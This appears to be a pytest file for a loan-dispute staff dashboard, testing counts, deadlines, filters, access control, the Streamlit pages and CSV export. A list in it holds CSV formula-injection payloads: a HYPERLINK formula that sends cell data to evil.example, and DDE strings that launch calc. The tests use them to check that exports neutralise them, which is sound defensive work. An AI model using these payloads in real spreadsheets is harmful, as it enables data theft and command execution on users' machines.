"""The dashboard's tables on a database of a few disputes."""

from datetime import date, timedelta

import pytest

from dispute import cases, dashboard, events, workflow
from dispute import event_kinds as ek
from dispute.deadlines.store import refresh_deadlines
from dispute.errors import Forbidden
from dispute.storage import dashboard_counts
from dispute.vocab import Role
from tests.conftest import raw, filing_form, make_user
from tests.second_factor import ready


@pytest.fixture
def portfolio(ctx):
    """Four disputes filed Sun 22 Nov 2026 and earlier: two banks, one closed, one decision met."""
    borrower = make_user(ctx)
    staff = make_user(ctx, Role.STAFF, email="staff@example.com")
    now = ctx.clock.now
    numbers = []
    for days_ago, bank, category in [(0, "招商银行", "autopay_failed"),
                                     (10, "招商银行", "wrong_credit_report"),
                                     (40, "工商银行", "fee_in_error"),
                                     (100, "工商银行", "autopay_failed")]:
        ctx.clock.now = now - timedelta(days=days_ago)
        numbers.append(cases.file_dispute(ctx, borrower, filing_form(
            institution=bank, error_category=category,
            error_occurred_on=ctx.today() - timedelta(days=3),
            payment_due_on=ctx.today() - timedelta(days=2),
            discovered_on=ctx.today() - timedelta(days=1))))
    ctx.clock.now = now
    ids = {n: raw(ctx.db, "SELECT id FROM disputes WHERE number = ?", (n,)).scalar()
           for n in numbers}

    def close_last(uow):
        dispute_id = ids[numbers[3]]
        with dashboard_counts.kept(uow, dispute_id):  # written around disputes.touch
            uow.execute("UPDATE disputes SET stage = 'closed', resolution = 'monetary_relief' "
                        "WHERE id = ?", (dispute_id,))
        events.append(uow, kind=ek.DISPUTE_CLOSED, at=now - timedelta(days=95), actor_id=staff.id,
                      dispute_id=dispute_id, payload={"resolution": "monetary_relief"})
        for dispute_id in ids.values():
            refresh_deadlines(uow, dispute_id, now, "Asia/Shanghai")

    ctx.db.write(close_last)
    workflow.move(ctx, staff, numbers[2], "withdraw", {"reason": "settled by phone"})
    return staff, numbers


def test_counts_by_stage_outcome_institution_and_category(ctx, portfolio):
    staff, _ = portfolio
    board = dashboard.build_dashboard(ctx, staff)
    assert dict(board.by_stage.rows) == {"filed": 2, "closed": 2}
    assert dict(board.outcomes.rows) == {"monetary_relief": 1, "withdrawn": 1}
    assert board.top_institutions.records() == [
        {"institution": "工商银行", "disputes": 2, "open": 0},
        {"institution": "招商银行", "disputes": 2, "open": 2}]
    assert dict(board.top_error_categories.rows)["autopay_failed"] == 2


def test_age_histogram_counts_open_disputes_only(ctx, portfolio):
    staff, _ = portfolio
    # every bucket, in order, the empty ones as 0: the axis has no gaps
    assert dashboard.build_dashboard(ctx, staff).age_of_open.rows == (
        ("0–7", 1), ("8–30", 1), ("31–60", 0), ("61–90", 0), ("91–180", 0), ("181+", 0))


def test_deadlines_due_this_week_and_share_met(ctx, portfolio):
    staff, _ = portfolio
    board = dashboard.build_dashboard(ctx, staff)
    # Today is Sun 22 Nov; "this week" is today and the six days after it, one row a day. The
    # dispute filed Thu 12 Nov has its decision due Fri 27 Nov; the one filed today, 7 Dec.
    days = dict(board.due_this_week.rows)
    assert list(days) == [date(2026, 11, 22) + timedelta(days=i) for i in range(7)]
    assert days[date(2026, 11, 27)] == 1 and sum(days.values()) == 1
    assert board.headline.due_this_week == 1
    # The dispute filed 14 Aug was closed on 19 Aug (met, due Aug 31); the one filed 13 Oct was
    # withdrawn today, after its decision fell due on 28 Oct (missed).
    months = {r["month"]: (r["met"], r["missed"]) for r in board.met_share_by_month.records()}
    assert months[date(2026, 8, 1)] == (1, 0)
    assert months[date(2026, 10, 1)] == (0, 1)


def test_filters_by_institution_and_filing_date(ctx, portfolio):
    staff, _ = portfolio
    only_cmb = dashboard.build_dashboard(ctx, staff, dashboard.Filters(institution="招商银行"))
    assert dict(only_cmb.by_stage.rows) == {"filed": 2}
    recent = dashboard.build_dashboard(ctx, staff, dashboard.Filters(
        filed_from=date(2026, 11, 20), filed_to=date(2026, 11, 22)))
    assert dict(recent.by_stage.rows) == {"filed": 1}


def test_csv_of_a_table_has_a_header_and_its_rows(ctx, portfolio):
    staff, _ = portfolio
    text = dashboard.build_dashboard(ctx, staff).by_stage.to_csv().splitlines()
    assert text[0] == "stage,disputes" and len(text) == 3


FORMULAS = ["=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "＝HYPERLINK(\"https://evil.example\")"]


def test_institutions_typed_as_formulas_reach_the_csv_as_text(ctx):
    """Issue 19, finding 3: a borrower-typed institution must not become a spreadsheet formula.
    Text cells that a spreadsheet would evaluate start with a single quote; numbers stay
    numbers."""
    import csv
    import io

    borrower = make_user(ctx)
    staff = make_user(ctx, Role.STAFF, email="staff@example.com")
    for institution in FORMULAS:
        cases.file_dispute(ctx, borrower, filing_form(institution=institution))
    text = dashboard.build_dashboard(ctx, staff).top_institutions.to_csv()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["institution", "disputes", "open"]
    cells = {row[0] for row in rows[1:]}
    assert len(cells) == len(FORMULAS)
    for cell in cells:
        assert cell.startswith("'") and cell[1:] in FORMULAS, cell
    assert all(row[1:] == ["1", "1"] for row in rows[1:])


def test_only_text_cells_are_neutralised():
    """Tab, carriage return and leading spaces (which filing strips, but a table may hold)."""
    table = dashboard.Table(("name", "change", "share", "on"),
                            (("-5", -5, -0.25, date(2026, 11, 22)), ("招商银行", 3, 0.5, None),
                             ("", 0, 1.0, None), ("\t=1+1", 1, 1, None),
                             ("  =1+1", 1, 1, None), ("a=b-c", 1, 1, None)))
    assert table.to_csv().splitlines() == ["name,change,share,on", "'-5,-5,-0.25,2026-11-22",
                                           "招商银行,3,0.5,", ",0,1.0,", "'\t=1+1,1,1,",
                                           "'  =1+1,1,1,", "a=b-c,1,1,"]
    assert dashboard.Table(("x",), (("\r=1+1",),)).to_csv() == "x\r\n\"'\r=1+1\"\r\n"


def test_borrowers_and_admins_do_not_see_the_dashboard(ctx, portfolio):
    borrower = make_user(ctx, email="b2@example.com")
    with pytest.raises(Forbidden):
        dashboard.build_dashboard(ctx, borrower)


def test_the_dashboard_page_renders_charts_and_downloads(settings, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from tests.conftest import REPO
    from ui import session

    monkeypatch.setenv("DISPUTE_DATA_DIR", str(settings.data_dir))
    if settings.database_url:  # the page's portal on the same PostgreSQL database
        monkeypatch.setenv("DISPUTE_DATABASE_URL", settings.database_url)
    portal = session.context()
    staff = ready(portal, make_user(portal, Role.STAFF, email="staff@example.com"))
    cases.file_dispute(portal, make_user(portal), filing_form())
    at = AppTest.from_file(str(REPO / "pages" / "dashboard.py"), default_timeout=30)
    at.session_state["lang"] = "en"
    at.session_state["user_id"] = staff.id
    at.run()
    assert not at.exception
    titles = [s.value for s in at.subheader]
    assert "Disputes by stage" in titles and "Most frequent errors" in titles
    at.selectbox(key="dashboard_institution").select("招商银行信用卡中心").run()
    assert not at.exception


# --- issue 16 item 12: the figures first, every bucket, and bars that open the queue ----------

def test_the_headline_figures(ctx, portfolio):
    staff, numbers = portfolio
    h = dashboard.build_dashboard(ctx, staff).headline
    # two open (filed today and 10 days ago); the one filed 10 days ago is due Fri 27 Nov
    assert (h.open, h.overdue, h.due_this_week) == (2, 0, 1)
    # closed: 100 days ago → 95 days ago (5 days); withdrawn today after 40 days
    assert h.closed == 2 and h.median_days_to_close == 22.5
    assert h.met_share is None or 0 <= h.met_share <= 1


def test_a_bar_names_the_queue_filter_it_opens():
    today = date(2026, 11, 22)
    assert dashboard.queue_params("by_stage", "negotiation", today) == {"stage": "negotiation"}
    assert dashboard.queue_params("due_this_week", "2026-11-27", today) == {
        "due_on": "2026-11-27"}
    assert dashboard.queue_params("age_of_open", "8–30", today) == {
        "open": "1", "filed_from": "2026-10-23", "filed_to": "2026-11-14"}
    assert dashboard.queue_params("age_of_open", "181+", today) == {
        "open": "1", "filed_to": "2026-05-25"}
    assert dashboard.queue_params("top_error_categories", "fee_in_error", today) == {
        "category": "fee_in_error"}
    assert dashboard.queue_params("met_share_by_month", "2026-10-01", today) is None


def _page(settings, monkeypatch, path, lang="zh_CN"):
    from streamlit.testing.v1 import AppTest

    from tests.conftest import REPO
    from ui import session

    monkeypatch.setenv("DISPUTE_DATA_DIR", str(settings.data_dir))
    portal = session.context()
    # staff sign in with two steps: an account not enrolled sees the enrolment page instead
    staff = ready(portal, make_user(portal, Role.STAFF, email="staff@example.com"))
    at = AppTest.from_file(str(REPO / path), default_timeout=30)
    at.session_state["lang"] = lang
    at.session_state["user_id"] = staff.id
    return portal, at


def test_the_page_starts_with_the_figures_and_every_age_bucket(settings, monkeypatch):
    import json

    portal, at = _page(settings, monkeypatch, "pages/dashboard.py")
    cases.file_dispute(portal, make_user(portal), filing_form())
    at.run()
    assert not at.exception
    assert [m.label for m in at.metric] == ["未结争议", "已逾期", "本周到期",
                                            "近30天按期答复率", "结案天数中位数"]
    assert at.metric[0].value == "1"
    specs = [json.loads(c.proto.spec) for c in at.get("vega_lite_chart")]
    # one dispute: no outcomes or met deadlines yet, the five other charts drawn
    assert len(specs) == 5
    layers = [s for s in specs if "layer" in s]
    assert len(layers) == 5 and all(any(l["mark"]["type"] == "text" if isinstance(
        l["mark"], dict) else l["mark"] == "text" for l in s["layer"]) for s in layers)
    # every bar chart here can be clicked (a point selection)
    assert all('"pick"' in json.dumps(s) for s in specs)
    assert "天" in json.dumps(specs, ensure_ascii=False)  # axis titles in the user's language


def test_the_week_of_deadlines_lists_its_days_down_the_chart(settings, monkeypatch):
    """Seven day names ("周四 2026年12月3日") side by side overlap on a phone: the days run down
    the chart, one bar each, like the other charts of names (the months of the share of
    deadlines met too)."""
    import json

    portal, at = _page(settings, monkeypatch, "pages/dashboard.py")
    cases.file_dispute(portal, make_user(portal), filing_form())
    at.run()
    assert not at.exception
    week = json.loads(at.get("vega_lite_chart")[0].proto.spec)  # the first chart on the page
    bars = next(layer for layer in week["layer"] if layer["mark"]["type"] == "bar")
    assert bars["encoding"]["y"]["field"] == "name"
    assert bars["encoding"]["x"]["field"] == "disputes"
    from ui.dashboard_charts import LAYOUT
    assert LAYOUT["met_share_by_month"][2]  # drawn horizontally (no data here to draw it)


def test_a_link_from_a_bar_opens_the_queue_filtered(settings, monkeypatch):
    from tests.test_pages import app

    portal, _at = _page(settings, monkeypatch, "pages/queue.py", lang="en")
    staff = make_user(portal, Role.STAFF, email="staff2@example.com")
    borrower = make_user(portal)
    cases.file_dispute(portal, borrower, filing_form(institution="招商银行"))
    other = cases.file_dispute(portal, borrower, filing_form(institution="工商银行"))

    def queue_with(**params):
        at = app(staff, "en")
        at.run()
        at.switch_page("pages/queue.py")
        for key, value in params.items():
            at.query_params[key] = value
        return at.run()

    at = queue_with(institution="工商银行")
    assert not at.exception
    links = [x for x in (link.label for link in at.get("page_link")) if x.startswith("DSP-")]
    assert links == [other]
    at = queue_with(due_on="2026-12-01")
    assert not at.exception
    assert "From the dashboard" in " ".join(i.value for i in at.info)
    assert not [x for x in (link.label for link in at.get("page_link")) if x.startswith("DSP-")]
